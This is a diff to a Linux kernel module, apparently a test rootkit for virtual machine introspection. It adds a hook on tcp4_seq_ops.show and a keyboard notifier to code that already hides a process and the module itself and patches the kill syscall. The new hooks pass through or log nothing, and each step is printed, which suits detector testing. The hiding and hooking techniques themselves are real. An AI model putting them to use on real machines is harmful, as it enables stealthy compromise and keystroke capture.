@@ -5,9 +5,12 @@
  *   - unlinks that process from the task list (it stays in the pid table and runs on),
  *   - unlinks itself from the module list and removes its kobject from /sys/module,
  *   - replaces sys_call_table[__NR_kill] with a handler of its own,
+ *   - replaces tcp4_seq_ops.show (what /proc/net/tcp prints each socket with) with its own,
+ *   - registers a keyboard notifier (a key logger's hook; this one logs nothing),
  * and logs each step with its addresses through printk, for the truth.
  */
 #include <linux/kallsyms.h>
+#include <linux/keyboard.h>
 #include <linux/kobject.h>
 #include <linux/kprobes.h>
 #include <linux/module.h>
@@ -15,6 +18,7 @@
 #include <linux/rculist.h>
 #include <linux/sched.h>
 #include <linux/sched/signal.h>
+#include <linux/seq_file.h>
 #include <linux/syscalls.h>
 #include <asm/unistd.h>
 
@@ -32,6 +36,21 @@ static long hooked_kill(const struct pt_regs *regs)
 {
 	return original_kill(regs);
 }
+
+/* Calls the original: the guest's /proc/net/tcp (and so the truth) stays as it was. */
+static int (*original_tcp4_show)(struct seq_file *, void *);
+
+static int hooked_tcp4_show(struct seq_file *seq, void *v)
+{
+	return original_tcp4_show(seq, v);
+}
+
+static int key_logger(struct notifier_block *block, unsigned long action, void *data)
+{
+	return NOTIFY_OK;
+}
+
+static struct notifier_block key_notifier = { .notifier_call = key_logger };
 
 /* kallsyms_lookup_name is not exported since 5.7: a kprobe on it tells its address. */
 static unsigned long lookup(const char *name)
@@ -59,6 +78,7 @@ static void write_protected(unsigned long *slot, unsigned long value)
 static int __init vmi_rootkit_init(void)
 {
 	struct task_struct *task;
+	struct seq_operations *tcp4_ops;
 
 	rcu_read_lock();
 	task = pid_task(find_vpid(hide_pid), PIDTYPE_PID);
@@ -76,6 +96,17 @@ static int __init vmi_rootkit_init(void)
 		pr_info("vmi_rootkit: sys_call_table %px slot %d now %px (was %px)\n", table, __NR_kill,
 			hooked_kill, original_kill);
 	}
+
+	tcp4_ops = (struct seq_operations *)lookup("tcp4_seq_ops");
+	if (tcp4_ops) {
+		original_tcp4_show = tcp4_ops->show;
+		write_protected((unsigned long *)&tcp4_ops->show, (unsigned long)hooked_tcp4_show);
+		pr_info("vmi_rootkit: tcp4_seq_ops %px show now %px (was %px)\n", tcp4_ops, hooked_tcp4_show,
+			original_tcp4_show);
+	}
+
+	if (register_keyboard_notifier(&key_notifier) == 0)
+		pr_info("vmi_rootkit: keyboard notifier %px calls %px\n", &key_notifier, key_logger);
 
 	pr_info("vmi_rootkit: module %px hides itself\n", THIS_MODULE);
 	list_del(&THIS_MODULE->list);
